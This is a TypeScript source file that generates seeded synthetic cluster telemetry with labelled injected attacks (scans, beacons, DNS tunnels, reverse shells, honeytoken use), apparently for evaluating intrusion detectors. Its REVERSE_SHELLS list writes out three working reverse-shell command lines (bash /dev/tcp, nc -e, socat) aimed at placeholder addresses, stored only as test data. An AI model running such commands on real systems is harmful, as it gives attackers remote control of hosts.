// A labelled telemetry scenario, deterministic for a seed: benign background (service-graph flows,
// DNS lookups, process launches, a few benign periodic pollers, a real source of beacon false
// positives, and on request clients of external APIs: irregular calls, and bursts of package
// downloads) with injected attacks, each with its ground truth: port and host scans, C2 beacons
// (hours long, and short ones only the early beacon signal can catch), DNS tunnels, reverse shells
// and honeytoken use. Events come out in time order from a generator, so hours of telemetry never
// sit in memory at once.
// Over 400 lines on purpose: the catalogue of attack and benign scenarios, drawn by one seeded generator.
import { InteractionKind, NetworkActivityId, type Event } from '@omega/proto';
import { Code, OmegaError } from '@omega/errors';
import { eventFromSigmaFields } from '../field-mapping';
import { seededRandom } from '../rule-samples';
import { deceptionEvent, dnsEvent, flowEvent } from '../detectors/telemetry-events';
import { benignPods, scenarioPod, type ScenarioPod as Pod } from './scenario-pods';

export const ATTACK_KINDS = [
  'scan',
  'beacon',
  'dns-tunnel',
  'reverse-shell',
  'honeytoken',
] as const;
export type AttackKind = (typeof ATTACK_KINDS)[number];

/** One injected attack: who did it, when, and the events that are it. */
export interface GroundTruth {
  readonly id: string;
  readonly kind: AttackKind;
  /** The detectors' entity key of the attacker (`pod:<ns>/<pod>`). */
  readonly entityKey: string;
  /** Event time of its first and last event. */
  readonly startNs: bigint;
  readonly endNs: bigint;
  readonly eventIds: readonly string[];
}

export interface ScenarioOptions {
  readonly seed: number;
  /** Event-time span (default 8 h: RITA's duration score needs 6 hourly bins). */
  readonly durationSec?: number;
  /** Event time of the first second (default 2023-11-14T22:13:20Z). */
  readonly startSec?: number;
  /** Benign workloads (default 300) spread over `nodes` nodes (default 6). */
  readonly pods?: number;
  readonly nodes?: number;
  /** Benign events per second of event time (default 10). */
  readonly backgroundPerSecond?: number;
  /** Benign pods polling one service at a fixed period (default 3). */
  readonly benignPollers?: number;
  /** Injected attacks per kind (default 5 each). */
  readonly attacksPerKind?: number;
  /** Extra beacons lasting only minutes (default 2), labelled `beacon` like the others. */
  readonly shortBeacons?: number;
  /**
   * Benign pods calling external APIs all along, half of them in download bursts (default 0: RITA's
   * full score flags some of them, see early-beacon-quality.spec.ts, so the default scenario keeps
   * its figures comparable with earlier runs).
   */
  readonly benignExternalClients?: number;
  /**
   * Jitter of the long beacons' period, as a fraction (default 0.01: ±1%); real implants add up to
   * ±30% (Cobalt Strike's `sleep` jitter, Sliver's `--jitter`).
   */
  readonly beaconJitter?: number;
}

export interface Scenario {
  readonly options: Required<ScenarioOptions>;
  readonly truths: readonly GroundTruth[];
  /** The events, time-ordered; each call starts over and yields the same sequence. */
  events(): Generator<Event>;
  /** How many events events() yields. */
  readonly eventCount: number;
}

const SEC = 1_000_000_000n;

const BENIGN_NAMES = [
  'api.stripe.com',
  'registry.npmjs.org',
  'storage.googleapis.com',
  'sts.amazonaws.com',
  'github.com',
  'objects.githubusercontent.com',
  'db.prod.svc.cluster.local',
  'cache.prod.svc.cluster.local',
  'kubernetes.default.svc.cluster.local',
];
const BENIGN_COMMANDS: readonly [image: string, commandLine: string, parent: string][] = [
  ['/usr/bin/node', 'node dist/server.js', '/sbin/tini'],
  ['/usr/local/bin/python3', 'python3 -m worker --queue default', '/sbin/tini'],
  ['/usr/sbin/nginx', 'nginx -g daemon off;', '/sbin/tini'],
  ['/usr/bin/git', 'git fetch origin', '/usr/bin/node'],
  ['/usr/bin/curl', 'curl -fsS http://localhost:8080/healthz', '/usr/bin/kubelet-probe'],
  ['/usr/bin/java', 'java -jar /app/app.jar', '/sbin/tini'],
];
/** Reverse shells as they are launched: the image that runs and its command line. */
const REVERSE_SHELLS: readonly [image: string, commandLine: string][] = [
  ['/bin/bash', 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1'],
  ['/usr/bin/nc', 'nc -e /bin/sh 203.0.113.9 9001'],
  ['/usr/bin/socat', "socat exec:'bash -li',pty,stderr tcp:203.0.113.11:443"],
];
const BASE32 = 'abcdefghijklmnopqrstuvwxyz234567';

function resolved(options: ScenarioOptions): Required<ScenarioOptions> {
  return {
    seed: options.seed,
    durationSec: options.durationSec ?? 8 * 3600,
    startSec: options.startSec ?? 1_700_000_000,
    pods: options.pods ?? 300,
    nodes: options.nodes ?? 6,
    backgroundPerSecond: options.backgroundPerSecond ?? 10,
    benignPollers: options.benignPollers ?? 3,
    attacksPerKind: options.attacksPerKind ?? 5,
    shortBeacons: options.shortBeacons ?? 2,
    benignExternalClients: options.benignExternalClients ?? 0,
    beaconJitter: options.beaconJitter ?? 0.01,
  };
}

export function generateScenario(input: ScenarioOptions): Scenario {
  const options = resolved(input);
  if (!(Number.isInteger(options.durationSec) && options.durationSec >= 600)) {
    throw new OmegaError(
      Code.InvalidArgument,
      `scenario: durationSec must be an integer of at least 600 (an attack needs room), got ${options.durationSec}`,
    );
  }
  const random = seededRandom(options.seed);
  const int = (n: number) => Math.floor(random() * n);
  const pick = <T>(list: readonly T[]): T => list[int(list.length)]!;
  const podOf = (namespace: string, name: string, i: number): Pod =>
    scenarioPod(namespace, name, i, options.nodes);
  const pods = benignPods(options.pods, options.nodes);
  const services = Array.from({ length: 60 }, (_, i) => ({
    ip: `10.96.${i >> 8}.${(i & 255) + 1}`,
    port: pick([80, 443, 5432, 6379, 8080, 9090]),
  }));
  const peers = pods.map(() => Array.from({ length: 3 }, () => pick(services)));
  const t0 = BigInt(options.startSec) * SEC;

  // Attack and poller events are few: built up front, then merged into the background.
  const scheduled: Event[] = [];
  const truths: GroundTruth[] = [];
  let attackerIndex = 10_000;
  const attacker = (kind: AttackKind, n: number): Pod =>
    podOf('compromised', `${kind}-${n}`, attackerIndex++);
  const at = (sec: number) => t0 + BigInt(Math.round(sec * 1e9));
  const record = (kind: AttackKind, n: number, pod: Pod, events: Event[]) => {
    for (const e of events) e.node = pod.node;
    scheduled.push(...events);
    const times = events.map((e) => e.timeNs);
    truths.push({
      id: `${kind}-${n}`,
      kind,
      entityKey: `pod:${pod.namespace}/${pod.name}`,
      startNs: times.reduce((a, b) => (a < b ? a : b)),
      endNs: times.reduce((a, b) => (a > b ? a : b)),
      eventIds: events.map((e) => e.id),
    });
  };
  // Attacks other than beacons start after the first hour (the new-edge detector learns first)
  // and end an hour before the end; in a scenario shorter than 4 h, within its middle 80%.
  const span = options.durationSec;
  const laterSec = (lengthSec: number) => {
    const [lo, hi] = span >= 4 * 3600 ? [3600, span - 3600] : [span * 0.1, span * 0.9];
    return lo + random() * Math.max(0, hi - lengthSec - lo);
  };
  for (let n = 0; n < options.attacksPerKind; n++) {
    // Scan: half host sweeps (40 hosts, port 22), half port sweeps (30 ports, one host), 1-3 s apart.
    {
      const pod = attacker('scan', n);
      const start = laterSec(120);
      const hostSweep = n % 2 === 0;
      const events = Array.from({ length: hostSweep ? 40 : 30 }, (_, i) =>
        flowEvent({
          id: `scan-${n}-${i}`,
          timeNs: at(start + i * (1 + random() * 2)),
          src: { ip: pod.ip, workload: pod.workload },
          dst: hostSweep
            ? { ip: `10.2.${n}.${i + 1}`, port: 22 }
            : { ip: `10.2.${n}.200`, port: 20 + i },
          activity: NetworkActivityId.NETWORK_ACTIVITY_ID_REFUSE,
        }),
      );
      record('scan', n, pod, events);
    }
    // Beacon: one external host, a fixed period of 60-300 s with ±1% jitter, constant size, all along.
    {
      const pod = attacker('beacon', n);
      const period = 60 + int(241);
      const start = random() * Math.min(600, span / 10);
      const events: Event[] = [];
      for (
        let s = start, i = 0;
        s < options.durationSec - 1;
        s += period * (1 - options.beaconJitter + random() * 2 * options.beaconJitter), i++
      ) {
        events.push(
          flowEvent({
            id: `beacon-${n}-${i}`,
            timeNs: at(s),
            src: { ip: pod.ip, workload: pod.workload },
            dst: { ip: `203.0.113.${50 + n}`, port: 443 },
            bytesOut: 412,
            bytesIn: 1_337,
          }),
        );
      }
      record('beacon', n, pod, events);
    }
    // DNS tunnel: 150 unique base32 labels of 40-60 characters under one domain, over 5 minutes.
    {
      const pod = attacker('dns-tunnel', n);
      const start = laterSec(300);
      const domain = `t${n}-${int(1e6).toString(36)}.example.net`;
      const events = Array.from({ length: 150 }, (_, i) => {
        const label = Array.from({ length: 40 + int(21) }, () => pick([...BASE32])).join('');
        return dnsEvent({
          id: `dns-tunnel-${n}-${i}`,
          timeNs: at(start + i * 2),
          src: { ip: pod.ip, workload: pod.workload },
          hostname: `${label}.${domain}`,
        });
      });
      record('dns-tunnel', n, pod, events);
    }
    // Reverse shell: one process launch.
    {
      const pod = attacker('reverse-shell', n);
      const event = eventFromSigmaFields('process_creation', {
        'omega.namespace': pod.namespace,
        'omega.pod': pod.name,
        'omega.node': pod.node,
        Image: REVERSE_SHELLS[n % REVERSE_SHELLS.length]![0],
        CommandLine: REVERSE_SHELLS[n % REVERSE_SHELLS.length]![1],
        ParentImage: '/usr/bin/python3',
      });
      event.id = `reverse-shell-${n}`;
      event.timeNs = at(laterSec(0));
      record('reverse-shell', n, pod, [event]);
    }
    // Honeytoken use: a planted credential used from the pod that stole it.
    {
      const pod = attacker('honeytoken', n);
      const event = deceptionEvent({
        id: `honeytoken-${n}`,
        timeNs: at(laterSec(0)),
        src: { ip: pod.ip, workload: pod.workload },
        honeytokenId: `aws-key-${n}`,
        kind: InteractionKind.INTERACTION_KIND_TOKEN_USE,
      });
      record('honeytoken', n, pod, [event]);
    }
  }
  // Benign pollers: metrics scrapes or health checks at a fixed period, sizes that vary a little.
  for (let n = 0; n < options.benignPollers; n++) {
    const pod = pods[int(pods.length)]!;
    const service = services[int(services.length)]!;
    const period = 15 + int(46);
    for (let s = random() * period, i = 0; s < options.durationSec - 1; s += period, i++) {
      const event = flowEvent({
        id: `poll-${n}-${i}`,
        timeNs: at(s + (random() - 0.5) * 0.2),
        src: { ip: pod.ip, workload: pod.workload },
        dst: service,
        bytesOut: 180 + int(40),
        bytesIn: 2_000 + int(4_000),
      });
      event.node = pod.node;
      scheduled.push(event);
    }
  }
  // Later additions draw from their own stream, so the events above stay as they were for a seed.
  const extra = seededRandom(options.seed ^ 0x5bd1e995);
  const extraInt = (n: number) => Math.floor(extra() * n);
  // Short beacons: a check-in every 5-30 s (±1%), constant size, for 12-30 check-ins: minutes, far
  // too short for RITA's hourly sub-scores.
  for (let k = 0; k < options.shortBeacons; k++) {
    const n = options.attacksPerKind + k;
    const pod = attacker('beacon', n);
    const period = 5 + extraInt(26);
    const checkIns = Math.min(12 + extraInt(19), Math.floor((span * 0.8) / period) - 1);
    const [lo, hi] = [span * 0.1, span * 0.9 - checkIns * period];
    const start = lo + extra() * Math.max(0, hi - lo);
    const events = Array.from({ length: checkIns }, (_, i) =>
      flowEvent({
        id: `beacon-${n}-${i}`,
        timeNs: at(start + i * period + period * (extra() - 0.5) * 0.02),
        src: { ip: pod.ip, workload: pod.workload },
        dst: { ip: `203.0.113.${50 + n}`, port: 8443 },
        bytesOut: 230,
        bytesIn: 96,
      }),
    );
    record('beacon', n, pod, events);
  }
  // Benign clients of external APIs. Half call at random (Poisson, mean 20-120 s) with log-normal
  // request sizes; half fetch packages in bursts (10-40 requests 20-200 ms apart, requests of
  // nearly one size) every 10-60 minutes. Neither is a beacon.
  for (let k = 0; k < options.benignExternalClients; k++) {
    const pod = pods[extraInt(pods.length)]!;
    const dst = { ip: `198.51.100.${10 + k}`, port: 443 };
    const flow = (id: string, sec: number, bytesOut: number) => {
      const event = flowEvent({
        id,
        timeNs: at(sec),
        src: { ip: pod.ip, workload: pod.workload },
        dst,
        bytesOut,
        bytesIn: 500 + extraInt(50_000),
      });
      event.node = pod.node;
      scheduled.push(event);
    };
    let i = 0;
    if (k % 2 === 0) {
      const meanSec = 20 + extraInt(101);
      for (let s = extra() * meanSec; s < span - 1; s += -Math.log(1 - extra()) * meanSec) {
        const normal = Math.sqrt(-2 * Math.log(1 - extra())) * Math.cos(2 * Math.PI * extra());
        flow(`api-${k}-${i++}`, s, Math.round(Math.exp(6.5 + normal)));
      }
    } else {
      for (let s = extra() * 600; s < span - 60; s += 600 + extra() * 3000) {
        let t = s;
        for (let r = 10 + extraInt(31); r > 0; r--, t += 0.02 + extra() * 0.18) {
          flow(`fetch-${k}-${i++}`, t, 300 + extraInt(12));
        }
      }
    }
  }
  scheduled.sort((a, b) => (a.timeNs < b.timeNs ? -1 : a.timeNs > b.timeNs ? 1 : 0));

  const backgroundSeed = options.seed ^ 0x9e3779b9;
  const perSecond = options.backgroundPerSecond;
  function* background(): Generator<Event> {
    const r = seededRandom(backgroundSeed);
    const bInt = (n: number) => Math.floor(r() * n);
    const bPick = <T>(list: readonly T[]): T => list[bInt(list.length)]!;
    let n = 0;
    for (let sec = 0; sec < options.durationSec; sec++) {
      for (let k = 0; k < perSecond; k++) {
        const timeNs = t0 + BigInt(sec) * SEC + BigInt(Math.floor((k / perSecond) * 1e9));
        const podIndex = bInt(pods.length);
        const pod = pods[podIndex]!;
        const id = `bg-${n++}`;
        const roll = r();
        let event: Event;
        if (roll < 0.7) {
          const dst = bPick(peers[podIndex]!);
          event = flowEvent({
            id,
            timeNs,
            src: { ip: pod.ip, workload: pod.workload },
            dst,
            activity:
              r() < 0.01
                ? NetworkActivityId.NETWORK_ACTIVITY_ID_REFUSE
                : NetworkActivityId.NETWORK_ACTIVITY_ID_CLOSE,
            bytesOut: 200 + bInt(20_000),
            bytesIn: 500 + bInt(200_000),
          });
        } else if (roll < 0.9) {
          const name =
            r() < 0.2 ? `d${bInt(5_000).toString(36)}.cloudfront.net` : bPick(BENIGN_NAMES);
          event = dnsEvent({
            id,
            timeNs,
            src: { ip: pod.ip, workload: pod.workload },
            hostname: name,
          });
        } else {
          const [image, commandLine, parent] = bPick(BENIGN_COMMANDS);
          event = eventFromSigmaFields('process_creation', {
            'omega.namespace': pod.namespace,
            'omega.pod': pod.name,
            'omega.node': pod.node,
            Image: image,
            CommandLine: commandLine,
            ParentImage: parent,
          });
          event.id = id;
          event.timeNs = timeNs;
        }
        event.node = pod.node;
        yield event;
      }
    }
  }

  return {
    options,
    truths,
    eventCount: options.durationSec * perSecond + scheduled.length,
    *events() {
      let next = 0;
      for (const event of background()) {
        while (next < scheduled.length && scheduled[next]!.timeNs <= event.timeNs) {
          yield scheduled[next++]!;
        }
        yield event;
      }
      while (next < scheduled.length) yield scheduled[next++]!;
    },
  };
}
